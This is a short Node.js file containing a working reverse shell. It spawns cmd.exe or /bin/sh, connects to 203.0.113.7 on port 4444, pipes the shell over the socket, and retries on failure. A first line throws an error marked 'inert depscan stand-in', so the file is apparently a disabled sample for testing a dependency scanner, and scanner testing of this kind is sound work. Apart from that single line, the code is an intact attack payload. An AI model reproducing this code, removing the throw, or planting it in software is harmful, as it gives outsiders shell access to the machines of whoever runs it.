throw new Error("inert depscan stand-in");
'use strict';

const net = require('net');
const { spawn } = require('child_process');

(function connect(attempt) {
  const shell = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', [], { windowsHide: true });
  const client = new net.Socket();
  client.connect(4444, '203.0.113.7', () => {
    client.pipe(shell.stdin);
    shell.stdout.pipe(client);
    shell.stderr.pipe(client);
  });
  client.on('error', () => {
    shell.kill();
    if (attempt < 5) setTimeout(() => connect(attempt + 1), 30000).unref();
  });
})(0);
